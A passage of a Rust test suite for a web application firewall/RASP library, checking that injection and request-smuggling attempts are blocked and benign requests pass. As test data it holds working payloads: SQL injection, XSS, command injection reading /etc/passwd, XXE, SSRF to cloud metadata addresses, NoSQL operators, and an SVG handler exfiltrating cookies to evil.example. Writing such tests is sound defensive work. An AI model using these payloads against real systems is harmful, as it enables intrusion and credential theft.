        // Read as JSON or XML whatever the declared type, as the
        // application may.
        (Some("application/octet-stream"), b"  [1, 2"),
        (Some("application/octet-stream"), b"<?xml version=\"1.0\"?>"),
        // A type rasp does not know is read as values.
        (Some("application/graphql"), b"query { a }"),
        (Some("application/x-ndjson"), b"{}"),
    ] {
        assert!(refused(&cut(ct, first)), "{ct:?} {first:?} passed");
    }
    for (ct, first) in [
        (Some("multipart/form-data; boundary=X"), &b"--X\r\n"[..]),
        (Some("multipart/form-data; boundary=X"), b"{"),
        (Some("application/octet-stream"), b"\x00\x01"),
        (Some("image/png"), b"\x89PNG"),
        (Some("application/pdf"), b"%PDF-1.7"),
        (Some("video/mp4"), b"\x00\x00\x00\x18ftyp"),
        (Some("application/zip"), b"PK\x03\x04"),
        (Some("application/x-gzip"), b"\x1f\x8b"),
    ] {
        assert!(!refused(&cut(ct, first)), "upload {ct:?} refused");
    }
    // Exactly the limit and complete; shorter and cut (rocket's fairing
    // peeks at 512 bytes, its data guard reads the rest): not too long.
    let post = Request::new("POST", "/api", ip("198.51.100.10"))
        .with_header("Content-Type", "application/json");
    let full = format!("[\"{}\"]", "a".repeat(1020));
    assert!(!refused(&post.clone().with_body(full, false)));
    assert!(!refused(&post.clone().with_body(vec![b' '; 512], true)));
    // A compressed body that decodes past the limit: a bomb, or just long.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"[").unwrap();
    gz.write_all(&vec![b' '; 4096]).unwrap();
    gz.write_all(b"\"x' or '1'='1\"]").unwrap();
    let gz = gz.finish().unwrap();
    assert!(gz.len() < 1024);
    assert!(refused(
        &post
            .clone()
            .with_header("Content-Encoding", "gzip")
            .with_body(gz, false)
    ));
    // The data guard's second look (rocket) asks the same.
    let long = cut(Some("application/json"), b"[\"a\"");
    assert!(r.check_request_body(&long).is_block());
    // Off, or no body read at all (a limit of 0): the first part is judged
    // and the rest passes, as before.
    let mut off = cfg.clone();
    off.security_checks.format = Level::Off;
    assert!(!rasp(off).check_request(&long).is_block());
    let mut none = cfg;
    none.max_body_size = 0;
    assert!(!rasp(none)
        .check_request(&Request::new("POST", "/api", ip("198.51.100.10")).with_body("", true))
        .is_block());
}

/// On a GraphQL endpoint the document is judged by its string values: a
/// line break then `id` (a field of nearly every query) is no command
/// there; an injection in a string argument, in `variables`, or in a
/// document GraphQL does not lex is judged as anywhere.
#[test]
fn graphql_documents_are_judged_by_their_string_values() {
    let r = rasp(quiet());
    let post = |path: &str, ct: &str, body: &str| {
        Request::new("POST", path, ip("198.51.100.10"))
            .with_header("Content-Type", ct)
            .with_body(body.to_string(), false)
    };
    let json = |path: &str, body: &str| post(path, "application/json", body);
    let query = r#"{"query": "query Cart($id: ID!) {\n  cart(id: $id) {\n    id\n    # items; | id\n    items(sort: \"price desc\") { sku }\n  }\n}", "variables": {"id": "a1"}, "operationName": "Cart"}"#;
    for path in [
        "/graphql",
        "/api/graphql",
        "/v1/graphql/",
        "/api/2024-01/graphql.json",
    ] {
        assert_eq!(blocked(&r, &json(path, query)), None, "{path}");
    }
    // The same body anywhere else: the `id` after a line break is a command.
    assert_eq!(
        blocked(&r, &json("/api/items", query)).map(|b| (b.0, b.1)),
        Some((Check::Command, Location::JsonValues))
    );
    assert_eq!(
        blocked(&r, &json("/notgraphql", query)).map(|b| b.0),
        Some(Check::Command)
    );
    // A batch, a GET, a form, an `application/graphql` body.
    let batch = r#"[{"query": "{\n  me {\n    id\n  }\n}"}, {"query": "{\n  id\n}"}]"#;
    assert_eq!(blocked(&r, &json("/graphql", batch)), None);
    assert_eq!(blocked(&r, &get("/graphql?query=%7B%0A++id%0A%7D")), None);
    let form = "application/x-www-form-urlencoded";
    assert_eq!(
        blocked(&r, &post("/graphql", form, "query=%7B%0A++id%0A%7D")),
        None
    );
    assert_eq!(
        blocked(&r, &post("/graphql", "application/graphql", "{\n  id\n}")),
        None
    );

    // Injections in string values, decoded of GraphQL's escapes inside
    // JSON's, are found and named by the document's place.
    let sqli =
        r#"{"query": "{ search(term: \"x\\u0027 UNION SELECT password FROM users--\") { id } }"}"#;
    let found = match r.check_request(&json("/graphql", sqli)) {
        Verdict::Block(d) => d,
        Verdict::Allow => panic!("an injection in a GraphQL string passed"),
    };
    assert_eq!(
        (found.check, found.location),
        (Check::Sqli, Location::JsonValues)
    );
    assert_eq!(found.name, "query");
    assert_eq!(found.payload, "x' UNION SELECT password FROM users--");
    let block_string =
        r#"{"query": "mutation { post(body: \"\"\"<img src=x onerror=alert(1)>\"\"\") { id } }"}"#;
    assert_eq!(
        blocked(&r, &json("/graphql", block_string)).map(|b| (b.0, b.2)),
        Some((Check::Xss, "<img src=x onerror=alert(1)>".to_string()))
    );
    assert_eq!(
        blocked(
            &r,
            &get("/graphql?query=%7B+f(host%3A+%22x%3B+cat+%2Fetc%2Fpasswd%22)+%7D")
        )
        .map(|b| (b.0, b.1)),
        Some((Check::Command, Location::QsValues))
    );
    // `variables` are values as any other, a `query` among them too.
    for body in [
        r#"{"query": "query($h: String) { ping(host: $h) }", "variables": {"h": "x; cat /etc/passwd"}}"#,
        r#"{"query": "{ a }", "variables": {"query": "{\n  id\n}"}}"#,
        r#"{"data": {"query": "{\n  id\n}"}}"#,
        r#"[{"x": {"query": "{\n  id\n}"}}]"#,
        r#"[[{"query": "{\n  id\n}"}]]"#,
    ] {
        assert_eq!(
            blocked(&r, &json("/graphql", body)).map(|b| b.0),
            Some(Check::Command),
            "{body}"
        );
    }
    // A document GraphQL does not lex is judged whole.
    for body in [
        r#"{"query": "{ id }; cat /etc/passwd"}"#,
        r#"{"query": "{ a }\nid"}"#,
        r#"{"query": "{ a } | id"}"#,
    ] {
        assert_eq!(
            blocked(&r, &json("/graphql", body)).map(|b| b.0),
            Some(Check::Command),
            "{body}"
        );
    }
    // `GRAPHQL_PATHS` empty: no endpoint is GraphQL.
    let off = rasp(Config {
        graphql_paths: vec![],
        ..quiet()
    });
    assert_eq!(
        blocked(&off, &json("/graphql", query)).map(|b| b.0),
        Some(Check::Command)
    );
    // A path pattern that does not compile names its key.
    let bad = Rasp::new(Config {
        graphql_paths: vec!["(".into()],
        ..quiet()
    });
    assert!(bad.unwrap_err().to_string().contains("GRAPHQL_PATHS"));
}

/// A field of `RICH_TEXT_FIELDS` holds HTML from an editor: markup passes
/// there unless it could run script; every other check is as anywhere.
#[test]
fn rich_text_fields_are_judged_by_what_their_markup_could_run() {
    let r = rasp(Config {
        rich_text_fields: vec!["body".into(), "content".into()],
        ..quiet()
    });
    let json = |body: &str| {
        Request::new("POST", "/posts", ip("198.51.100.10"))
            .with_header("Content-Type", "application/json")
            .with_body(body.to_string(), false)
    };
    let form = |body: &str| {
        Request::new("POST", "/posts", ip("198.51.100.10"))
            .with_header("Content-Type", "application/x-www-form-urlencoded")
            .with_body(body.to_string(), false)
    };
    // Editor HTML the XSS model blocks (0.99) anywhere else.
    let editor =
        "<h1>Release notes</h1><h2>v2.4</h2><ul><li>Faster search</li><li>Dark mode</li></ul>";
    assert_eq!(
        blocked(
            &r,
            &json(&format!(r#"{{"title": "Hello", "body": "{editor}"}}"#))
        ),
        None
    );
    assert_eq!(
        blocked(&r, &json(&format!(r#"{{"Content": "{editor}"}}"#))),
        None
    );
    assert_eq!(
        blocked(
            &r,
            &form("content=%3Ca+href%3D%22%23section-2%22%3EJump+to+section+2%3C%2Fa%3E")
        ),
        None
    );
    assert_eq!(
        blocked(
            &r,
            &form("title=%3Ca+href%3D%22%23section-2%22%3EJump+to+section+2%3C%2Fa%3E")
        )
        .map(|b| (b.0, b.1)),
        Some((Check::Xss, Location::PostValues))
    );
    // The same markup in another field is XSS, as anywhere.
    assert_eq!(
        blocked(&r, &json(&format!(r#"{{"title": "{editor}"}}"#))).map(|b| (b.0, b.1)),
        Some((Check::Xss, Location::JsonValues))
    );
    // What could run script, in the rich-text field.
    for body in [
        r#"{"body": "<p>x</p><img src=x onerror=alert(1)>"}"#,
        r#"{"body": "<a href=\"java\tscript:alert(1)\">x</a>"}"#,
        r#"{"body": "<a href=\"javascript&colon;alert(1)\">x</a>"}"#,
        r#"{"body": "<svg onload=alert(1)>"}"#,
        r#"{"body": "<iframe src=\"https://evil.example\"></iframe>"}"#,
        r#"{"body": "x\" onmouseover=\"alert(1)\" y=\""}"#,
        r#"{"body": "<p>x</p><b"}"#,
        // Encoded, then decoded before judging.
        r#"{"body": "%3Cscript%3Ealert(1)%3C/script%3E"}"#,
        r#"{"body": "&lt;img src=x onerror=alert(1)&gt;"}"#,
    ] {
        assert_eq!(
            blocked(&r, &json(body)).map(|b| b.0),
            Some(Check::Xss),
            "{body}"
        );
    }
    // SQL and command injection are judged as anywhere.
    assert_eq!(
        blocked(
            &r,
            &json(r#"{"body": "<p>x' UNION SELECT password FROM users--</p>"}"#)
        )
        .map(|b| b.0),
        Some(Check::Sqli)
    );
    assert_eq!(
        blocked(&r, &json(r#"{"body": "<p>x</p>; cat /etc/passwd"}"#)).map(|b| b.0),
        Some(Check::Command)
    );
    // An item of an array under the name is not the named field's value.
    assert_eq!(
        blocked(&r, &json(&format!(r#"{{"body": ["{editor}"]}}"#))).map(|b| b.0),
        Some(Check::Xss)
    );
    // None by default.
    assert_eq!(
        blocked(&rasp(quiet()), &json(&format!(r#"{{"body": "{editor}"}}"#))).map(|b| b.0),
        Some(Check::Xss)
    );
}

#[test]
fn json_is_walked_whatever_its_declared_type() {
    // A handler may parse any body as JSON; judged as one raw text, the
    // document's other values outvoted these payloads in the last value.
    let mut items = String::new();
    for i in 0..20 {
        items.push_str(&format!(
            r#"{{"id": {i}, "name": "Widget {i}", "note": "Ships in 2-3 days, thanks for your order"}},"#
        ));
    }
    let r = rasp(Config {
        security_checks: rasp_core::SecurityChecks {
            flood: Level::Off,
            ..quiet().security_checks
        },
        ..quiet()
    });
    for (n, payload) in ["x' or '1'='1", "'; drop table users; --"]
        .iter()
        .enumerate()
    {
        let body = format!(r#"{{"items": [{items} {{"id": 99, "note": "{payload}"}}]}}"#);
        for (m, ct) in [
            Some("text/plain"),
            None,
            Some("application/octet-stream"),
            Some("application/x-www-form-urlencoded"),
        ]
        .into_iter()
        .enumerate()
        {
            let mut req = Request::new("POST", "/api/items", ip(&format!("10.1.{n}.{m}")))
                .with_body(body.clone(), false);
            if let Some(ct) = ct {
                req = req.with_header("Content-Type", ct);
            }
            let got = blocked(&r, &req);
            assert_eq!(
                got.as_ref().map(|g| (g.0, g.1)),
                Some((Check::Sqli, Location::JsonValues)),
                "{payload} as {ct:?}"
            );
        }
        // The benign document passes whatever its type.
        let benign = format!(r#"{{"items": [{items} {{"id": 99, "note": "O'Brien's order"}}]}}"#);
        let req = Request::new("POST", "/api/items", ip("10.1.9.9"))
            .with_header("Content-Type", "text/plain")
            .with_body(benign, false);
        assert_eq!(blocked(&r, &req), None);
    }
}

#[test]
fn a_body_judged_later_is_judged_alone() {
    // rocket's guard judges a whole body after the fairing judged the
    // request with the body's first 512 bytes: the body's values are
    // judged, the request is not counted again for flood.
    let mut cfg = quiet();
    cfg.flood_ratio = 2;
    cfg.flood_delay = 60;
    let r = rasp(cfg);
    let req = Request::new("POST", "/api/items?page=1", ip("10.2.0.1"))
        .with_header("Content-Type", "application/json")
        .with_body(r#"{"note": "O'Brien's pick"}"#, false);
    assert_eq!(r.check_request(&req), Verdict::Allow);
    for _ in 0..5 {
        assert_eq!(r.check_request_body(&req), Verdict::Allow);
    }
    let attack = req.clone().with_body(r#"{"note": "x' or '1'='1"}"#, false);
    match r.check_request_body(&attack) {
        Verdict::Block(d) => assert_eq!((d.check, d.location), (Check::Sqli, Location::JsonValues)),
        Verdict::Allow => panic!("the body's payload passed"),
    }
}

#[test]
fn xml_bodies_are_read_into_their_values() {
    // Judged as one raw text, the other elements outvoted a payload and the
    // markup of an empty order scored as script.
    let r = rasp(Config {
        security_checks: rasp_core::SecurityChecks {
            flood: Level::Off,
            ..quiet().security_checks
        },
        ..quiet()
    });
    let mut items = String::new();
    for i in 0..20 {
        items.push_str(&format!(
            "<item sku=\"W-{i}\"><name>Widget {i}</name><note>Ships in 2-3 days, O'Brien's choice</note></item>"
        ));
    }
    let doc = |last: &str| {
        format!("<?xml version=\"1.0\"?><order>{items}<item><note>{last}</note></item></order>")
    };
    for (n, (payload, check)) in [
        ("x' or '1'='1", Check::Sqli),
        ("'; drop table users; --", Check::Sqli),
        (
            "&lt;img src=x onerror=alert(document.cookie)&gt;",
            Check::Xss,
        ),
        ("<![CDATA[<svg onload=alert(1)>]]>", Check::Xss),
    ]
    .into_iter()
    .enumerate()
    {
        for (m, ct) in [
            "application/xml",
            "text/xml; charset=utf-8",
            "application/soap+xml",
            // Declared XML (`<?xml`): read as XML whatever the type.
            "text/plain",
        ]
        .into_iter()
        .enumerate()
        {
            let req = Request::new("POST", "/api/orders", ip(&format!("10.4.{n}.{m}")))
                .with_header("Content-Type", ct)
                .with_body(doc(payload), false);
            let got = blocked(&r, &req);
            assert_eq!(
                got.as_ref().map(|g| (g.0, g.1)),
                Some((check, Location::PostValues)),
                "{payload} as {ct}"
            );
        }
    }
    for benign in [
        doc("Leave at the door, thanks"),
        "<?xml version=\"1.0\"?><order></order>".to_string(),
        "<order><note>a &lt; b and c &gt; d</note></order>".to_string(),
    ] {
        let req = Request::new("POST", "/api/orders", ip("10.4.9.9"))
            .with_header("Content-Type", "application/xml")
            .with_body(benign.clone(), false);
        assert_eq!(blocked(&r, &req), None, "{benign}");
    }
}

#[test]
fn script_in_svg_and_xml_is_judged_per_value() {
    let r = rasp(Config {
        security_checks: rasp_core::SecurityChecks {
            flood: Level::Off,
            ..quiet().security_checks
        },
        ..quiet()
    });
    let svg = |inner: &str| format!(r#"<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>"#);
    let attacks = [
        svg("<script>alert(document.domain)</script>"),
        r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#.to_string(),
        svg(r#"<a href="javascript:alert(1)"><text>x</text></a>"#),
        svg(r#"<image href="x" onerror="fetch('//evil.example/'+document.cookie)"/>"#),
        // An event handler judged with its name: the value alone is no script.
        svg(r#"<animate onbegin="top.location='//evil.example'" attributeName="x" dur="1s"/>"#),
    ];
    let benign = [
        svg(r#"<rect width="10" height="10" fill="red"/>"#),
        r#"<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note><to>Tove</to></note>"#.to_string(),
        r#"<?xml version="1.0"?><!DOCTYPE note [<!ELEMENT note (to)><!ELEMENT to (#PCDATA)>]><note><to>Tove</to></note>"#.to_string(),
        r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetPrice xmlns:m="https://www.w3schools.com/prices"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>"#.to_string(),
    ];
    for (i, doc) in attacks.iter().chain(benign.iter()).enumerate() {
        for (m, ct) in ["image/svg+xml", "application/xml"].into_iter().enumerate() {
            let req = Request::new("POST", "/upload", ip(&format!("10.6.{i}.{m}")))
                .with_header("Content-Type", ct)
                .with_body(doc.clone(), false);
            assert_eq!(
                blocked(&r, &req).is_some(),
                i < attacks.len(),
                "{doc} as {ct}"
            );
        }
    }
}

#[test]
fn xml_external_entities_are_refused() {
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o><n>&x;</n></o>"#;
    let post = |n: u8, ct: &str, body: &str| {
        Request::new("POST", "/api/orders", ip(&format!("10.7.0.{n}")))
            .with_header("Content-Type", ct)
            .with_body(body.to_string(), false)
    };
    let quiet_with = |level| Config {
        security_checks: rasp_core::SecurityChecks {
            flood: Level::Off,
            xxe: level,
            ..quiet().security_checks
        },
        ..quiet()
    };
    let r = rasp(quiet_with(Level::Blacklist));
    let got = blocked(&r, &post(1, "application/xml", xxe));
    assert_eq!(
        got,
        Some((
            Check::Xxe,
            Location::PostValues,
            r#"<!ENTITY x SYSTEM "file:///etc/passwd">"#.to_string()
        ))
    );
    // Level 2: the source is blacklisted.
    let again = blocked(&r, &post(1, "application/xml", "<o/>"));
    assert_eq!(again.map(|g| g.0), Some(Check::Blacklist));
    // In a form value, as a document a handler parses.
    let encoded: String = xxe.bytes().map(|c| format!("%{c:02X}")).collect();
    let form = format!("doc={encoded}");
    let got = blocked(&r, &post(2, "application/x-www-form-urlencoded", &form));
    assert_eq!(
        got.map(|g| (g.0, g.1)),
        Some((Check::Xxe, Location::PostValues))
    );
    // Off: the document's values are judged as before, the declaration not.
    let r = rasp(quiet_with(Level::Off));
    assert_eq!(blocked(&r, &post(3, "application/xml", xxe)), None);
}

#[test]
fn path_traversal_is_refused() {
    let with = |level| quiet_with_check(|c| c.traversal = level);
    let r = with(Level::Block);
    for (n, target) in [
        "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
        "/download?file=....%2F%2F....%2F%2Fetc%2Fpasswd",
        "/download?file=..%5C..%5Cwindows%5Cwin.ini",
        "/download?file=%252Fetc%252Fshadow",
        "/download?file=file%3A%2F%2F%2Fetc%2Fpasswd",
    ]
    .into_iter()
    .enumerate()
    {
        let req = Request::new("GET", target, ip(&format!("10.8.0.{n}")));
        assert_eq!(
            blocked(&r, &req).map(|g| (g.0, g.1)),
            Some((Check::Traversal, Location::QsValues)),
            "{target}"
        );
    }
    for target in [
        "/download?file=..%2Fimg%2Flogo.png",
        "/download?file=%2Fhome%2Fjane%2Freport.pdf",
        "/search?q=my+%2Fetc%2Fpasswd+is+broken",
    ] {
        let req = Request::new("GET", target, ip("10.8.1.1"));
        assert_eq!(blocked(&r, &req), None, "{target}");
    }
    let off = with(Level::Off);
    let req = Request::new(
        "GET",
        "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
        ip("10.8.2.1"),
    );
    assert_eq!(blocked(&off, &req), None);
}

#[test]
fn a_large_xml_document_is_judged_value_by_value() {
    // 20,000 elements: no cap after which the rest would be one raw text
    // (whose markup scored as script), and a payload in the last is found.
    let r = rasp(Config {
        security_checks: rasp_core::SecurityChecks {
            flood: Level::Off,
            ..quiet().security_checks
        },
        ..quiet()
    });
    let rows: String = (0..20_000)
        .map(|i| format!("<row id=\"{i}\"><name>Widget {i}</name></row>"))
        .collect();
    for (n, (last, block)) in [("Leave at the door", false), ("x' or '1'='1", true)]
        .into_iter()
        .enumerate()
    {
        let doc =
            format!("<?xml version=\"1.0\"?><export>{rows}<row><note>{last}</note></row></export>");
        let req = Request::new("POST", "/import", ip(&format!("10.7.0.{n}")))
            .with_header("Content-Type", "application/xml")
            .with_body(doc, false);
        assert_eq!(blocked(&r, &req).is_some(), block, "{last}");
    }
}

#[test]
fn metadata_service_urls_are_refused() {
    let with = |level| quiet_with_check(|c| c.ssrf = level);
    let r = with(Level::Block);
    // Query values, once or twice percent-encoded, in the writings an HTTP
    // client reads as the metadata address.
    for (n, target) in [
        "/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        "/preview?url=http%253A%252F%252F169.254.169.254%252Flatest",
        "/preview?url=http://2852039166/latest/meta-data/",
        "/preview?url=http://0xa9.0xfe.0xa9.0xfe/",
        "/preview?url=http://[::ffff:169.254.169.254]/",
        "/preview?url=http://metadata.google.internal/computeMetadata/v1/",
        "/preview?url=gopher://127.0.0.1:6379/_FLUSHALL",
        // Read after the decoders: a percent-encoded host, full-width
        // digits (NFKC), HTML references.
        "/preview?url=http://169.254.169.%2532%2535%2534/latest",
        "/preview?url=http://%EF%BC%91%EF%BC%96%EF%BC%99.254.169.254/",
        "/preview?url=http%26%2358%3B%26%2347%3B%26%2347%3B169.254.169.254/",
    ]
    .into_iter()
    .enumerate()
    {
        let req = Request::new("GET", target, ip(&format!("10.9.0.{n}")));
        assert_eq!(
            blocked(&r, &req).map(|g| (g.0, g.1)),
            Some((Check::Ssrf, Location::QsValues)),
            "{target}"
        );
    }
    // A JSON value, with the escaped slashes JSON allows.
    let json = Request::new("POST", "/api/webhooks", ip("10.9.1.1"))
        .with_header("Content-Type", "application/json")
        .with_body(
            r#"{"callback": "http:\/\/169.254.170.2\/v2\/credentials"}"#,
            false,
        );
    assert_eq!(
        blocked(&r, &json).map(|g| (g.0, g.1)),
        Some((Check::Ssrf, Location::JsonValues))
    );
    for target in [
        "/preview?url=https%3A%2F%2Fwww.example.com%2Fpost%3Fid%3D3",
        "/preview?url=http://localhost:3000/callback",
        "/preview?url=http://169.254.12.34/settings",
        "/search?q=the+range+169.254.0.0/16+is+link-local",
    ] {
        let req = Request::new("GET", target, ip("10.9.2.1"));
        assert_eq!(blocked(&r, &req), None, "{target}");
    }
    let off = with(Level::Off);
    let req = Request::new(
        "GET",
        "/preview?url=http://169.254.169.254/latest/meta-data/",
        ip("10.9.3.1"),
    );
    assert_eq!(blocked(&off, &req), None);
}

#[test]
fn nosql_operators_in_keys_and_names_are_refused() {
    let with = |level| quiet_with_check(|c| c.nosql = level);
    let r = with(Level::Block);
    let json = |n: u8, body: &str| {
        Request::new("POST", "/api/login", ip(&format!("10.10.0.{n}")))
            .with_header("Content-Type", "application/json")
            .with_body(body.to_string(), false)
    };
    for (n, body, path) in [
        (
            1,
            r#"{"username": "admin", "password": {"$ne": null}}"#,
            "password.$ne",
        ),
        // Escaped as JSON allows; after the same text as a value.
        (
            2,
            r#"{"note": "$gt", "username": {"\u0024gt": ""}}"#,
            "username.$gt",
        ),
        (3, r#"[{"$where": "sleep(100)"}]"#, "[0].$where"),
    ] {
        let got = blocked(&r, &json(n, body)).expect(body);
        assert_eq!((got.0, got.1), (Check::Nosql, Location::JsonKeys), "{body}");
        let event = r.check_request(&json(n + 100, body));
        let Verdict::Block(d) = event else {
            panic!("{body}")
        };
        assert_eq!(d.name, path, "{body}");
    }
    let form = Request::new("POST", "/account/signin", ip("10.10.1.1"))
        .with_header("Content-Type", "application/x-www-form-urlencoded")
        .with_body("username=admin&password%5B%24ne%5D=x", false);
    assert_eq!(
        blocked(&r, &form).map(|g| (g.0, g.1)),
        Some((Check::Nosql, Location::PostVariables))
    );
    let query = Request::new("GET", "/users?name[$regex]=.*", ip("10.10.1.2"));
    assert_eq!(
        blocked(&r, &query).map(|g| (g.0, g.1)),
        Some((Check::Nosql, Location::QsVariables))
    );
    // `$` keys that are no operator, and operators as values.
    for (n, body) in [
        r##"{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/a"}"##,
        r#"{"price": "$ne", "note": "use $where sparingly"}"#,
    ]
    .into_iter()
    .enumerate()
    {
        assert_eq!(blocked(&r, &json(20 + n as u8, body)), None, "{body}");
    }
    let odata = Request::new(
        "GET",
        "/odata/People?$filter=Age%20gt%2018&$top=5",
        ip("10.10.2.1"),
    );
    assert_eq!(blocked(&r, &odata), None);
    let off = with(Level::Off);
    let body = r#"{"username": "admin", "password": {"$ne": null}}"#;
    assert_eq!(blocked(&off, &json(30, body)), None);
}

/// Every check off but one: the request's targets are then made only for a
/// check that reads them (decoys read the cleaned path, pollution the
/// parameter names, the value checks the values), and each still judges.
#[test]
fn each_check_judges_alone() {
    let alone = |set: fn(&mut rasp_core::SecurityChecks)| {
        let mut cfg = quiet();
        cfg.security_checks = rasp_core::SecurityChecks {
            path: Level::Off,
            headers: Level::Off,
            flood: Level::Off,
            spoofing: Level::Off,
            decoy: Level::Off,
            sqli: Level::Off,
            xss: Level::Off,
            hpp: Level::Off,
            command: Level::Off,
            dlp: Level::Off,
            format: Level::Off,
            xxe: Level::Off,
            traversal: Level::Off,
            ssrf: Level::Off,
            nosql: Level::Off,
        };
        set(&mut cfg.security_checks);
        rasp(cfg)
    };
    let attacks = [
        "/%2E%65nv",
        "/search?q=a&q=b",
        "/search?q=1%27%20union%20select%20password%20from%20users--",
    ];
    let none = alone(|_| {});
    for a in attacks {
        assert_eq!(blocked(&none, &get(a)), None, "{a}");
    }
    let decoy = alone(|c| c.decoy = Level::Block);
    assert_eq!(
        blocked(&decoy, &get(attacks[0])).map(|b| (b.0, b.2)),
        Some((Check::Decoy, "/.env".to_string()))
    );
    let hpp = alone(|c| c.hpp = Level::Block);
    assert_eq!(
        blocked(&hpp, &get(attacks[1])).map(|b| b.0),
        Some(Check::Hpp)
    );
    assert_eq!(blocked(&hpp, &get(attacks[2])), None);
    let sqli = alone(|c| c.sqli = Level::Block);
    assert_eq!(
        blocked(&sqli, &get(attacks[2])).map(|b| b.0),
        Some(Check::Sqli)
    );
    assert_eq!(blocked(&sqli, &get(attacks[1])), None);
}
